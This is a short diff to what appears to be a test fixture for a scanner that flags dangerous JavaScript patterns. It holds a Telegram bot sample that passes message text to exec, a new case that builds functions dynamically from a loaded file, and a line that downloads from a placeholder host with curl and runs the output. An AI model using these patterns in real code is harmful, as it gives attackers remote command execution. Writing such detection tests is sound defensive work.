@@ -724,6 +724,12 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
   ],
   silent: [
     {
+      when: 'a file that lies beside the page is loaded, and functions are named by what is in it',
+      files: {
+        'index.js': `const load = name => { const xhr = new XMLHttpRequest(); xhr.open('GET', name, false); xhr.send(null); return xhr.response; }; const names = load('specimen.wasm'); for (const name of names) exports[name] = new Function('_', 'return function ' + name + '() { return _.apply(this, arguments); };');`,
+      },
+    },
+    {
       when: 'a command saves it, and what that prints is run',
       files: {
         'index.js': `const { execSync } = require('child_process'); execSync(execSync('curl -so words.txt https://a.invalid/x && echo true').toString())`,
